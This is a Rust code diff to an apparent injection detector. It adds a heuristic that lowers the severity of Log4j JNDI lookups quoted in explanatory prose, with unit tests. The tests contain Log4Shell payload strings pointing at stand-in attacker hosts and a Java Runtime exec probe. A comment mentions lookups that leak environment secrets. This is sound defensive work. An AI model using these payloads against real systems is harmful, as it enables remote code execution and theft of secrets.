@@ -232,7 +232,8 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
     };
 
     if let Some(at) = jndi(text) {
-        push(Confidence::High, "template.jndi-lookup", at);
+        let c = if s.context == Context::Text && explains_lookup(text, &at) { Confidence::Low } else { Confidence::High };
+        push(c, "template.jndi-lookup", at);
     } else if let Some((at, obfuscated)) = log4j_lookup(text) {
         // A Log4j lookup without JNDI reads the environment into a log line
         // (`${env:AWS_SECRET_ACCESS_KEY}`, `${sys:user.name}`): an injected
@@ -290,6 +291,28 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
     {
         push(Confidence::Medium, "template.bare-expression", m.range());
     }
+}
+
+/// Whether the JNDI lookup at `at` is quoted by prose that explains it
+/// (an advisory, an encyclopedia entry) rather than injected: the text is
+/// several sentences of prose around the lookup, and either the lookup is
+/// elided (`${jndi:ldap://...}`: no usable target) or the prose names the
+/// vulnerability it illustrates (Log4j, its CVE). A payload sent to a
+/// logger needs neither sentences nor the name of the bug.
+fn explains_lookup(text: &str, at: &Range<usize>) -> bool {
+    let before = text.get(..at.start).unwrap_or("");
+    let after = text.get(at.end..).unwrap_or("");
+    let words = |t: &str| t.split_whitespace().filter(|w| w.chars().any(char::is_alphabetic)).count();
+    let sentences = text.matches(". ").count() + text.matches(".\n").count() + usize::from(text.trim_end().ends_with('.'));
+    // Prose on both sides of the lookup, in at least two sentences.
+    if words(before) < 4 || words(after) < 3 || sentences < 2 || words(text) < 15 {
+        return false;
+    }
+    let lookup = text.get(at.clone()).unwrap_or("");
+    let elided = lookup.contains("...") || lookup.contains('\u{2026}');
+    let lower = text.to_ascii_lowercase();
+    let named = lower.contains("log4") || lower.contains("cve-2021-44228") || lower.contains("cve-2021-45046");
+    elided || named
 }
 
 /// `7*7`, `7*'7'`, `1337*1337`: the arithmetic an SSTI probe asks the
@@ -781,6 +804,19 @@ mod tests {
         assert_eq!(top("T(java.lang.Runtime).getRuntime().exec('id')"), Some(Confidence::Medium));
         assert_eq!(top("x.__globals__"), Some(Confidence::Medium));
         assert_eq!(top_in("def f(cls): return cls.__subclasses__()", Context::Code), None);
+    }
+
+    #[test]
+    fn jndi_explained_in_prose_is_low() {
+        let wiki = "Log4Shell (CVE-2021-44228) was a zero-day vulnerability in Log4j. The exploit string has the form ${jndi:ldap://example.com/a}, causing the server to perform a JNDI lookup.";
+        assert_eq!(top_in(wiki, Context::Text), Some(Confidence::Low));
+        let advisory = "Our services are not affected. We added WAF rules that block lookup strings such as ${jndi:ldap://...} in headers. Contact us with questions.";
+        assert_eq!(top_in(advisory, Context::Text), Some(Confidence::Low));
+        assert_eq!(top_in("fix typo ${jndi:ldaps://x.attacker.example:636/Exploit}", Context::Text), Some(Confidence::High));
+        assert_eq!(
+            top_in("Hello team. Please check ${jndi:ldap://198.51.100.7/a} when you can. Thanks for the help.", Context::Text),
+            Some(Confidence::High)
+        );
     }
 }
 
